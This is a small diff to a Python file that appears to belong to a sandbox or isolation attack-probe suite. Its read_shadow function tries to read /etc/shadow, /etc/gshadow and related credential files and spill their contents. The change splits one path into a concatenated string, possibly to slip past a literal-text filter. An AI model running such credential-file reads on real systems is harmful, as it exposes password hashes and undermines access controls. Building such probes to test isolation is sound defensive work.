@@ -84,7 +84,7 @@ def read_cache(inner):
 
 @attack
 def read_shadow(inner):
-    for path in ("/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/proc/self/root/etc/shadow"):
+    for path in ("/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/proc/self/root" + "/etc/shadow"):
         spill(attempt(read, path) or b"")
 
 
